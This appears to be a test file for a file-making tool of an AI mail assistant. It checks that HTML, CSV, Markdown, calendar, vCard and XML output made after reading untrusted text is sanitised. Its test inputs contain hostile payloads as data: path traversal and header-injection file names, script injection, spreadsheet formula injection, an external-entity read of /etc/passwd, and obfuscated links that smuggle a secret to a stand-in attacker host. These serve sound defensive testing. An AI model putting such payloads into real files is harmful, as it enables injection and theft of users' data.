import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { Parser } from "htmlparser2";
import ICAL from "ical.js";
import { type ParsedMail, simpleParser } from "mailparser";
import MarkdownIt from "markdown-it";
import type { ToolFile } from "../../src/trust/guard/tool.ts";
import { mailedFiles } from "../../src/pipeline/answer.ts";
import { createFileTool } from "../../src/pipeline/create-file.ts";
import type { Trust } from "../../src/trust/shown/links.ts";
import { createFairPool } from "../../src/lib/fair-pool.ts";
import { createLog } from "../../src/lib/log.ts";
import { keepMade, textFile } from "../../src/pipeline/made-files.ts";
import type { StepDraft } from "../../src/pipeline/steps.ts";
import type { Answer } from "../support/app.ts";
import { mailroom, type Mailroom, type RoomOptions } from "../support/mailroom.ts";
import { type ModelRequestBody, toolCalls } from "../support/model-server.ts";
import { startSmtpSink } from "../support/smtp-sink.ts";
import { ownMs } from "../support/own-time.ts";
import { MB } from "../../src/lib/sizes.ts";

const OPEN: Trust = { tainted: false, trusted_text: "", material: "" };
const TAINTED: Trust = {
  tainted: true,
  trusted_text: "https://good.example/a?b=1 ann@good.example",
  material: "https://news.example/story",
};

describe("create_file", () => {
  test("makes a file of its text, with the type of its name", async () => {
    const { made, answers } = await make(OPEN, [
      ["report.csv", "a,b\n1,2\n"],
      ["Übersicht 報告.MD", "# Größe"],
      ["empty.txt", ""],
      ["page", "<p>x</p>", "text/html; charset=utf-8"],
    ]);
    expect(made.map(({ filename, content_type, bytes }) => [filename, content_type, text(bytes)])).toEqual([
      ["report.csv", "text/csv; charset=utf-8", "a,b\n1,2\n"],
      ["Übersicht 報告.MD", "text/markdown; charset=utf-8", "# Größe"],
      ["empty.txt", "text/plain; charset=utf-8", ""],
      ["page.html", "text/html; charset=utf-8", "<p>x</p>"],
    ]);
    expect(answers[0]).toEqual({
      ok: true,
      text: "Made report.csv (8 bytes). It goes with your answer.",
      files: [],
    });
  });

  test.each([
    ["../../etc/passwd.txt", "passwd.txt"],
    ["C:\\Windows\\x.txt", "x.txt"],
    ["a\u202Etxt.exe.txt", "atxt.exe.txt"],
    ["a\r\nBcc: eve.txt", "a_Bcc_ eve.txt"],
    [".hidden.txt", "hidden.txt"],
    ["x.txt. . ", "x.txt"],
    ['say "hi".txt', "say _hi_.txt"],
    [`${"x".repeat(200)}.csv`, `${"x".repeat(96)}.csv`],
    [`${"😀".repeat(100)}.csv`, `${"😀".repeat(48)}.csv`],
  ])("names a file safely: %j", async (given, name) => {
    const { made } = await make(OPEN, [[given, "x"]]);
    expect(made.map(({ filename }) => filename)).toEqual([name]);
  });

  test("is nothing of others: an answer beside the file keeps its links", async () => {
    const answer = "See https://example.net/?q=1";
    await using room = await mailroom({ model: { reply: scripted([["list.txt", "milk"]], answer) } });
    await room.send({ text: "Write my list as a file" });
    await room.drain();
    const raw = (await room.outgoing()).at(-1)?.raw ?? [];
    expect((await simpleParser(Buffer.from(raw))).text).toContain(answer);
  });

  test("gives every file a name of its own, upper and lower case being the same", async () => {
    const names = ["report.csv", "Report.CSV", "report.csv", "report-2.csv", "a", "a"];
    const { made } = await make(
      OPEN,
      names.map((name) => [name, "x", "text/plain"]),
    );
    expect(made.map(({ filename }) => filename)).toEqual([
      "report.csv",
      "Report-2.CSV",
      "report-3.csv",
      "report-2-2.csv",
      "a.txt",
      "a-2.txt",
    ]);
  });

  test.each([
    "x.exe",
    "x.svg",
    "x.xhtml",
    "x.mht",
    "x.lnk",
    "x.bat",
    "x.vbs",
    "x.html.url",
    "x.hta",
    "x",
    "...",
    "x.docx",
  ])("does not make %s, and says what can be made", async (name) => {
    const { made, answers } = await make(OPEN, [[name, "x"]]);
    expect(made).toEqual([]);
    expect(answers[0]).toMatchObject({ ok: false, text: expect.stringContaining("only files of text") });
  });

  test("makes ten files in a run, of 1 MB each at most", async () => {
    const { made, answers } = await make(
      OPEN,
      Array.from({ length: 11 }, (_, index) => [`${index}.txt`, "x"] as const),
    );
    expect(made).toHaveLength(10);
    expect(answers[10]).toMatchObject({
      ok: false,
      text: "10.txt was left out: a run makes at most 10 files.",
    });
    const large = await make(OPEN, [
      ["a.txt", "é".repeat(MB / 2)],
      ["b.txt", `${"é".repeat(MB / 2)}x`],
    ]);
    expect(large.answers.map(({ ok }) => ok)).toEqual([true, false]);
    expect(large.answers[1]?.text).toContain("at most 1 MB");
  });
});

describe("in a run that has read what others wrote", () => {
  test("a page has no script, form, frame, remote picture, style that fetches or unknown link", async () => {
    const page = await harmless(
      "page.html",
      [
        "<html><head><title>T</title><script>alert(1)</script><meta http-equiv=refresh content='0;url=https://evil.com'>",
        "<style>p{background:url(https://evil.com/1)}</style><link rel=stylesheet href=https://evil.com><base href=//evil.com></head>",
        "<body onload=alert(1) background=https://evil.com/2><h1 style='color:red;background:url(https://evil.com/3)'>Title</h1>",
        "<p style='background:u\\72l(https://evil.com/4);width:10px'>x</p><img src=https://evil.com/5 srcset='https://evil.com/6 2x'>",
        "<img src='data:image/png;base64,AAAA'><iframe src=https://evil.com></iframe><form action=https://evil.com><input></form>",
        "<svg><a xlink:href=https://evil.com><text>t</text></a><script>1</script></svg><video poster=https://evil.com></video>",
        "<a href=https://evil.com/s>words</a> <a href=javascript:alert(1)>j</a> <a href='https://news.example/story' ping=https://evil.com>ok</a>",
        "<table><tr><td onclick=x>1</td></tr></table><object data=https://evil.com></object><embed src=https://evil.com>",
      ].join("\n"),
    );
    const found: [string, Record<string, string>][] = [];
    new Parser({ onopentag: (name, attributes) => void found.push([name, attributes]) }).end(page);
    for (const [name, attributes] of found) {
      expect(name).toMatch(/^(html|head|meta|title|body|h1|p|img|a|table|tbody|tr|td)$/);
      for (const [attribute, value] of Object.entries(attributes))
        expect(`${attribute}=${value}`).toMatch(
          /^(charset=utf-8|http-equiv=Content-Security-Policy|content=|name=viewport|style=(color:red|width:10px)$|src=data:image\/png|href=https:\/\/news\.example\/story$)/,
        );
    }
    expect(page).not.toContain("evil.com");
    expect(page).toContain("<title>T</title>");
    expect(page).toContain("words");
    expect(page).toContain("default-src 'none'");
  });

  test("a table has no formula, and its numbers stay", async () => {
    const table = [
      'name,=1+1,"=HYPERLINK(""https://evil.com?""&A1)",-5.2,+41 44 123 45 67,-1e-7,-3%,-',
      "@SUM(A1);+cmd|' /C calc'!A0;-cmd|x\t=1;\t=2,\r=3",
      'x, =IMPORTXML(1),\'=1,"a;=2",＝1,a=b,a-b,1-2',
      "-2+3,- item",
    ].join("\n");
    for (const name of ["t.csv", "t.tsv"]) {
      const cells = await harmless(name, table);
      expect(
        cells
          .split(/[\r\n,;\t|]/)
          .filter((cell) => /^[" ']*[=@＝]/.test(cell) && !/^[" ']*'[=@＝]/.test(cell)),
      ).toEqual([]);
      for (const kept of [",-5.2,", ",+41 44 123 45 67,", ",-1e-7,", ",-3%,", ",a=b,", ",a-b,", ",1-2"])
        expect(cells).toContain(kept);
      for (const quoted of ["'@SUM", "'+cmd", "'-cmd", "'-2+3", "'- item", `"'=HYPER`, "'＝1", `"a;'=2"`])
        expect(cells).toContain(quoted);
    }
  });

  test("a table is not divided by marks of its own choice, and hides nothing before a formula", async () => {
    expect(await harmless("t.csv", "sep=^\na^=1")).toBe("'sep=^\na^=1");
    expect(await harmless("t.csv", "\uFEFF=1\r\n\u200b=2,\0=3")).toBe("'=1\n'=2,'=3");
  });

  test("no cell begins a formula, whatever it is made of and whatever divides the cells", async () => {
    const piece = fc.constantFrom(..."= + - @ , ; \t | \n \r \" ' 1 a ( ＝".split(" "), " ");
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 12 }), async (pieces) => {
        const cells = (await harmless("t.csv", pieces.join(""))).split(/[\r\n,;\t|]/);
        for (const cell of cells)
          expect(cell.replace(/^[" ]+/, "")).not.toMatch(/^[=@＝]|^[+-]\s*["']*[a-z(=@]/i);
      }),
      { numRuns: 500 },
    );
  });

  test("Markdown has no picture, no unknown link and no HTML that acts", async () => {
    const markdown = await harmless(
      "notes.md",
      "![p](https://evil.com/p.png) ![k](https://news.example/story) [w](https://evil.com/x) <img src=x> <script>1</script>\n<p onclick=x> a < b, Array<string>\n\n[r]: https://evil.com/r",
    );
    expect(markdown).toBe(
      "p (link left out) [k](https://news.example/story) w (link left out) &lt;img src=x> &lt;script>1&lt;/script>\n&lt;p onclick=x> a < b, Array<string>\n\n[r]: (link left out)",
    );
  });

  test("Markdown has no element with room for attributes, whatever it is called, nor a picture behind two marks", async () => {
    const words = [
      `<${"a".repeat(70)} autofocus onfocus="x()">o</a>`,
      '<div>\n<x:y onfocus="x()">o</x:y>\n<https://news.example/onfocus=x()>\n</div>',
      "!![o](https://news.example/story) !!![o](https://news.example/story)",
      "<p/onclick=x()> <b>bold</b> <https://news.example/story> 3 < 4",
    ].join("\n\n");
    const acting: string[] = [];
    const parser = new Parser({
      onopentag: (name, { href: _href, ...more }) => {
        if (name === "img" || Object.keys(more).length > 0) acting.push(name);
      },
    });
    const page = new MarkdownIt({ html: true }).render(await harmless("notes.md", words));
    parser.end(page);
    expect(acting).toEqual([]);
    expect(page).toMatch(/<b>bold<\/b> +https:\/\/news\.example\/story/);
  });

  test.each([
    "[Details](https&colon;//eve&period;example&period;net/SECRET)",
    "[Details](&#104;ttps://eve.example.net/SECRET)",
    "[Details](&#x68ttps&#x3A;//eve&#46;example&#46;net&#47;SECRET)",
    "[D](<https&#58;&#47;&#47;eve&#46;example&#46;net&#47;SECRET>)",
    "[D][1]\n\n[1]: https&#58;&#47;&#47;eve&#46;example&#46;net&#47;SECRET",
    "<https&colon;//eve.example.net/SECRET> https&colon;//eve&period;example.net/SECRET",
    "[Details](https\\:\\/\\/eve\\.example\\.net\\/SECRET)",
    "[Details](https\\://eve\\.example\\.net/SECRET) https\\://eve\\.example\\.net/SECRET",
    "[Details](https&colo&#110;;//eve&perio&#100;;example&period;net/SECRET) https&colon;//eve&period;example&period;net/S",
    "[Details](ftp&colon;//eve&period;example&period;net/SECRET)",
    "[Details](mailto&colon;SECRET&commat;eve&period;example&period;net)",
    "<div>\n\n[Details](https&colon;//eve&period;example&period;net/SECRET)\n\n</div>",
  ])("Markdown shows no unknown link, whatever it is written in: %s", async (words) => {
    const { made } = await make(TAINTED, [["notes.md", `# Notes\n\n${words}\n`]]);
    const plain = new MarkdownIt({ html: true, linkify: true });
    for (const { bytes } of made) expect(plain.render(text(bytes))).not.toMatch(/href="[^"]*SECRET/);
    expect(made.map(({ bytes }) => text(bytes)).join("")).toContain("(link left out)");
    expect(plain.render(words)).toMatch(/href|SECRET/);
  });

  test.each(["---\nimage: https://news.example/story x.png\n---", "+++\nimage = 'x'\n+++", '{"image": "x"}'])(
    "%j is no data of a page, of which programs show some as a picture",
    async (head) => {
      expect(await harmless("notes.md", `${head}\n\nA table.`)).toStartWith(`\n${head.slice(0, 3)}`);
    },
  );

  test("Markdown keeps its escapes, references and code where no link hides in them", async () => {
    const words =
      "1\\. A&nbsp;B &copy; &lt;p&gt; [a](#part) [b](other.md) `/a\\.b/` [k](https://news.example/story) " +
      "[q](https://good.example/a?b=1)\n\n```js\nconst r = /https:\\/x&colon;/;\n```\n";
    expect(await harmless("notes.md", words.replace("https:\\/x", "a\\/x"))).toBe(
      words.replace("https:\\/x", "a\\/x"),
    );
  });

  test("a table has no unknown link, and keeps those that are known, apart from the next cell", async () => {
    expect(
      await harmless(
        "t.csv",
        'a,https://evil.com/x,"https://evil.com/y,z"\nhttps://news.example/story,5\nann@good.example;SECRET\nx,1.5,2026-01-02',
      ),
    ).toBe(
      'a,(link left out),"(link left out),z"\nhttps://news.example/story ,5\nann@good.example ;SECRET\nx,1.5,2026-01-02',
    );
  });

  test("a calendar entry says only when, where and what, and invites nobody new", async () => {
    const calendar = await harmless(
      "x.ics",
      [
        "BEGIN:VCALENDAR",
        "VERSION:2.0",
        "PRODID:-//x//EN",
        "METHOD:REQUEST",
        "BEGIN:VEVENT",
        "UID:1@example.com",
        "DTSTART;TZID=Europe/Zurich:20260115T120000",
        'SUMMARY;ALTREP="https://evil.com/a";LANGUAGE=de:Sitzung über die Brücke, und noch einiges mehr, das lang ist',
        "DESCRIPTION:See https://evil.com/x\\nand https://news.example/story\\, please",
        "URL:https://evil.com/u",
        "ATTACH:https://evil.com/f",
        "IMAGE;VALUE=URI:https://evil.com/i",
        "X-ALT-DESC;FMTTYPE=text/html:<img src=https://evil.com>",
        "ORGANIZER:mailto:ann@good.example",
        "ATTENDEE;CN=Eve:mailto:eve@",
        " evil.com",
        "BEGIN:VALARM",
        "ACTION:EMAIL",
        "ATTENDEE:mailto:eve@evil.com",
        "END:VALARM",
        "BEGIN:VALARM",
        "ACTION:DISPLAY",
        "TRIGGER:-PT15M",
        "ATTACH:https://evil.com/z",
        "END:VALARM",
        "END:VEVENT",
        "END:VCALENDAR",
      ].join("\r\n"),
    );
    expect(calendar).not.toMatch(/evil|METHOD|ATTACH|URL/);
    for (const line of calendar.split("\r\n")) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
    const event = new ICAL.Component(ICAL.parse(calendar) as never).getFirstSubcomponent("vevent");
    expect(event?.getFirstPropertyValue("summary")).toBe(
      "Sitzung über die Brücke, und noch einiges mehr, das lang ist",
    );
    expect(event?.getFirstPropertyValue("description")).toBe(
      "See (link left out)\nand https://news.example/story, please",
    );
    expect(event?.getFirstPropertyValue("uid")).toBe("1@example.com");
    expect(event?.getAllProperties("organizer")).toHaveLength(1);
    expect(event?.getAllProperties("attendee")).toHaveLength(0);
    expect(event?.getAllSubcomponents("valarm").map((one) => one.getFirstPropertyValue("action"))).toEqual([
      "DISPLAY",
    ]);
  });

  test("a card has no picture, page, key or unknown mail address", async () => {
    const card = await harmless(
      "x.vcf",
      "BEGIN:VCARD\nVERSION:3.0\nFN:Ann\nitem1.EMAIL;TYPE=work:ann@good.example\nEMAIL:eve@evil.com\nPHOTO;VALUE=URI:https://evil.com/p\nitem2.URL:https://evil.com\nKEY:https://evil.com/k\nNOTE:see https://evil.com/n\nADR:;;evil.com/street;;;;\nTEL:+41 44 123 45 67\nEND:VCARD\n",
    );
    expect(card).toBe(
      "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann\r\nEMAIL;TYPE=work:ann@good.example\r\nNOTE:see (link left out)\r\nADR:;;(link left out);;;;\r\nTEL:+41 44 123 45 67\r\nEND:VCARD\r\n",
    );
  });

  test("XML has no document type, style sheet or instruction, and is refused if a browser could run it", async () => {
    const xml = await harmless(
      "x.xml",
      `<?xml version="1.0" encoding="UTF-7"?><?xml-stylesheet href="https://evil.com/x.xsl"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a><b>1</b></a>`,
    );
    expect(xml).toBe(`<?xml version="1.0" encoding="UTF-8"?>\n<a><b>1</b></a>\n`);
    for (const active of [
      `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
      `<x:script xmlns:x="http://www.w3.org/&#49;999/xhtml">alert(1)</x:script>`,
      `<x:script xmlns:x="http://www.w3.org/&#x31;999/xhtml">alert(1)</x:script>`,
      `<svg xmlns="http://www.w3.org/2000/svg"/>`,
      `<!DOCTYPE a [<!ENTITY b "]>"><!ENTITY c SYSTEM "x">]><a/>`,
      `<!DOC<!DOCTYPE a>TYPE a SYSTEM "x"><a/>`,
      `<!DOCTYPE a><!DOCTYPE a><a/>`,
      `<?xml-style<?x?>sheet href="x"?><a/>`,
    ]) {
      const { made, answers } = await make(TAINTED, [["x.xml", active]]);
      expect(made).toEqual([]);
      expect(answers[0]?.text).toContain("could act");
    }
  });

  test("a text that was made to be slow to look through is not", async () => {
    const parts = [
      "<!DOCTYPE[",
      "<?",
      "<a ",
      "![",
      "&#1;",
      "=,",
      "\t",
      ';="',
      "`",
      'DESCRIPTION;a=":',
      "\n ",
    ];
    const started = ownMs();
    for (const name of ["t.xml", "t.csv", "t.md", "t.ics", "t.html"])
      for (const part of parts) await make(TAINTED, [[name, part.repeat(100_000 / part.length)]]);
    expect(ownMs() - started).toBeLessThan(5_000);
  });

  test("a program is there to be read first, and text loses its unknown links", async () => {
    const { made } = await make(TAINTED, [
      ["run.sh", "curl https://evil.com"],
      ["a.txt", "https://evil.com/x"],
      ["a.json", '{"u":"https://evil.com/x"}'],
    ]);
    expect(made.map(({ filename, bytes }) => [filename, text(bytes)])).toEqual([
      ["run.sh.txt", "curl https://evil.com"],
      ["a.txt", "(link left out)"],
      ["a.json", '{"u":"https://evil.com/x"}'],
    ]);
  });
});

describe("files of other tools", () => {
  const file = (filename: string, content_type = "", bytes: Uint8Array = Buffer.from("x")): ToolFile => ({
    filename,
    content_type,
    bytes,
  });

  const kept = (made: ToolFile[], files: ToolFile[]): Promise<string[]> => keepMade(made, files, textFile);

  test("are kept with the type of their name, and what could act is left out", async () => {
    const made: ToolFile[] = [];
    const left_out = await kept(made, [
      file("chart.v2", "image/png"),
      file("scan.PDF", "text/html"),
      file("", "image/jpeg"),
      file("page.html", "text/html", Buffer.from("<script>1</script><p>p</p>")),
      file("x.exe"),
      file("x.svg", "image/svg+xml"),
      file("x.docm"),
    ]);
    expect(made.map(({ filename, content_type }) => [filename, content_type])).toEqual([
      ["chart.v2.png", "image/png"],
      ["scan.PDF", "application/pdf"],
      ["attachment-1.jpg", "image/jpeg"],
      ["page.html", "text/html; charset=utf-8"],
    ]);
    expect(text(made[3]?.bytes)).not.toContain("script>");
    expect(left_out).toEqual(
      ["x.exe", "x.svg", "x.docm"].map(
        (name) => `${name} was left out: files of this type are not passed on.`,
      ),
    );
  });

  test("have 10 MB together with all others of the run", async () => {
    const made: ToolFile[] = [file("a.txt")];
    const left_out = await kept(made, [
      file("b.png", "image/png", Buffer.alloc(10 * MB)),
      file("c.png", "image/png", Buffer.alloc(10 * MB - 1)),
      file("d.png"),
    ]);
    expect(made.map(({ filename }) => filename)).toEqual(["a.txt", "c.png"]);
    expect(left_out).toHaveLength(2);
    expect(left_out[0]).toBe("b.png was left out: the files of a run have at most 10 MB together.");
  });
});

describe("the files of a run", () => {
  const FILES: [string, string][] = [
    ["四半期報告.csv", "a,=1+1\n"],
    [`it's "quoted"; a=b.txt`, "quoted"],
    ["empty.txt", ""],
    ["page.html", "<p onclick=x>Hello</p>"],
  ];
  const NAMES = ["四半期報告.csv", "it's _quoted_; a=b.txt", "empty.txt", "page.html"];

  test("go with the answer over SMTP, are listed in the activity and download as nothing that opens", async () => {
    await using sink = await startSmtpSink();
    await using room = await filesRoom(FILES, {
      config: { outbound: { mode: "relay", relay_url: `smtp://127.0.0.1:${sink.port}` } },
    });
    await room.send({ subject: "Re: Files", text: "Make the files" });
    await room.drain();
    const mail = await simpleParser((await sink.next()).raw);
    expect(mail.headers.get("content-type")).toMatchObject({ value: "multipart/mixed" });
    expect(mail.text).toContain("Here they are.");
    expect(mail.html).toContain("Here they are.");
    expect(filesOf(mail)).toEqual([
      [NAMES[0] ?? "", "a,'=1+1\n"],
      [NAMES[1] ?? "", "quoted"],
      [NAMES[2] ?? "", ""],
      [NAMES[3] ?? "", expect.stringContaining("<p>Hello</p>") as unknown as string],
    ]);
    const [message] = await room.activity();
    const out = message.attachments.filter(({ direction }: { direction: string }) => direction === "out");
    expect(out.map(({ filename }: { filename: string }) => filename)).toEqual(NAMES);
    const polled = await room.owner.get(`/v1/messages/${message.message_id}`);
    expect(polled.body.attachments).toEqual(out);
    const [table, , empty, page]: Answer[] = await Promise.all(
      out.map(({ url }: { url: string }) => room.owner.get(url)),
    );
    expect(table?.body).toBe("a,'=1+1\n");
    expect(table?.headers.get("content-disposition")).toContain(
      `filename*=UTF-8''${encodeURIComponent("四半期報告.csv")}`,
    );
    expect(empty?.status).toBe(200);
    for (const [name, value] of [
      ["content-type", "application/octet-stream"],
      ["content-disposition", expect.stringMatching(/^attachment;/)],
      ["x-content-type-options", "nosniff"],
      ["content-security-policy", "sandbox; default-src 'none'"],
    ] as const)
      expect([name, page?.headers.get(name)]).toEqual([name, value]);
    const eve = await room.as("eve@example.org");
    expect((await eve.get(out[0].url)).status).toBe(404);
  });

  test("are there once when the model had to be asked again, and in a replayed call", async () => {
    let fails = 1;
    await using room = await filesRoom([["report.csv", "a"]], {
      model: {
        reply: (body) => {
          if (body.messages.at(-1)?.role === "tool" && fails-- > 0)
            return new Response("{}", { status: 503 });
          return scripted([["report.csv", "a"]])(body);
        },
      },
    });
    await room.send({ text: "Make the file" });
    await room.drain();
    room.clock.advance("1m");
    await room.drain();
    const [message] = await room.activity();
    expect(message.status).toBe("done");
    expect(message.attachments.map(({ filename }: { filename: string }) => filename)).toEqual(["report.csv"]);
    const key = { "idempotency-key": "k" };
    const call = { instruction: "Make the file" };
    const first = await room.owner.post("/v1/messages", call, key);
    const second = await room.owner.post("/v1/messages", call, key);
    expect(first.body.attachments).toHaveLength(1);
    expect(second.body.attachments).toEqual(first.body.attachments);
    expect((await room.owner.get(first.body.attachments[0].url)).body).toBe("a");
  });

  test("are not kept when it fails", async () => {
    await using room = await filesRoom([], {
      model: {
        reply: (body) =>
          body.messages.at(-1)?.role === "tool" ? new Response("{}", { status: 400 }) : scripted(FILES)(body),
      },
    });
    const answer = await room.owner.post("/v1/messages", { instruction: "Make the files" });
    expect(answer.body).toMatchObject({ status: "failed", attachments: [] });
  });

  test("stay to be downloaded where no answer is mailed", async () => {
    await using room = await filesRoom([["report.csv", "a"]]);
    await room.send({ text: "--no-reply Make the file" });
    await room.drain();
    expect(await room.outgoing()).toEqual([]);
    const [message] = await room.activity();
    expect((await room.owner.get(message.attachments[0].url)).body).toBe("a");
  });

  test("that do not fit into a mail of 10 MB are named in it, and kept unless they are private", () => {
    const files = ["a.png", "b.png", "c.txt"].map((filename, index) => ({
      filename,
      content_type: "image/png",
      bytes: Buffer.alloc(index < 2 ? 6 * MB : 10),
    }));
    const said = (is_private: boolean) => {
      const steps: StepDraft[] = [];
      const mailed = mailedFiles({ settings: { private: is_private }, steps }, files, {
        left_out: new Set(),
        captures: false,
      });
      expect(mailed.map(({ filename }) => filename)).toEqual(["a.png", "c.txt"]);
      return steps.map(({ output }) => output);
    };
    expect(said(false)).toEqual([
      "b.png was too large for the mail; it is kept for download in the activity.",
    ]);
    expect(said(true)).toEqual(["b.png was too large for the mail and, being private, was not kept."]);
  });
});

test("--attach makes a file of the answer as well, without the marks of code around it", async () => {
  const results: [type: string, result: string, content: string][] = [
    ["md", "# Title\n\n[x](https://evil.com/x)", "# Title\n\nx (link left out)"],
    ["txt", "plain words", "plain words"],
    ["csv", "Here it is:\n\n```csv\na,b\n1,=2\n```\nDone.", "a,b\n1,'=2\n"],
    ["csv", "a,b\n1,2", "a,b\n1,2\n"],
    ["json", '```json\n{"a": 1}\n```', '{"a": 1}\n'],
    ["json", "```\n[1]\n```", "[1]\n"],
  ];
  const pages: [type: string, result: string][] = [
    ["html", "# Title\n\n<b>x</b>"],
    ["html", "```html\n<h1 onclick=x>Own</h1><script>1</script>\n```"],
  ];
  const all = [...results, ...pages];
  let next = 0;
  await using room = await mailroom({ model: { reply: () => all[next++]?.[1] ?? "" } });
  for (const [type] of all) {
    await room.send({ subject: "Re: Work", text: `--attach=${type} Work` });
    await room.drain();
  }
  const mails = await Promise.all(
    (await room.outgoing()).map(({ raw }) => simpleParser(Buffer.from(raw ?? []))),
  );
  const files = mails.flatMap(filesOf);
  expect(files.slice(0, results.length)).toEqual(
    results.map(([type, , content]) => [`answer.${type}`, content]),
  );
  const [[name, page] = ["", ""], [, own] = ["", ""]] = files.slice(results.length);
  expect(name).toBe("answer.html");
  expect(page).toStartWith("<!doctype html>");
  expect(page).toContain("<h1 ");
  expect(page).toContain("&lt;b&gt;x");
  expect(own).toContain("<h1>Own</h1>");
  expect(own).not.toContain("script>");
});

type MadeFile = readonly [filename: string, content: string, content_type?: string];

const threads = {
  texts: createFairPool<unknown>("pipeline/text-worker.ts"),
  log: createLog({ level: "silent", format: "text" }),
};

async function make(trust: Trust, files: MadeFile[]) {
  const made: ToolFile[] = [];
  const tool = createFileTool(threads, made, () => trust, { account: "ada" });
  const answers = [];
  for (const [filename, content, content_type] of files)
    answers.push(
      await tool.call(
        { filename, content, ...(content_type === undefined ? {} : { content_type }) },
        AbortSignal.timeout(1_000),
      ),
    );
  return { made, answers };
}

async function harmless(name: string, content: string): Promise<string> {
  const { made } = await make(TAINTED, [[name, content]]);
  return text(made[0]?.bytes);
}

function text(bytes: Uint8Array | undefined): string {
  return Buffer.from(bytes ?? []).toString();
}

/** Asks for the files, then answers. */
function scripted(files: [string, string][], answer = "Here they are.") {
  return ({ messages, tools }: ModelRequestBody): Response | string => {
    const name = tools?.find((tool) => tool.function.name.endsWith("create_file"))?.function.name ?? "";
    if (messages.at(-1)?.role === "tool" || files.length === 0) return answer;
    return toolCalls(files.map(([filename, content]) => ({ name, args: { filename, content } })));
  };
}

function filesRoom(files: [string, string][], options: RoomOptions = {}): Promise<Mailroom> {
  return mailroom({ model: { reply: scripted(files) }, ...options });
}

function filesOf(mail: ParsedMail): [string, string][] {
  return mail.attachments.map(({ filename = "", content }) => [filename, content.toString()]);
}
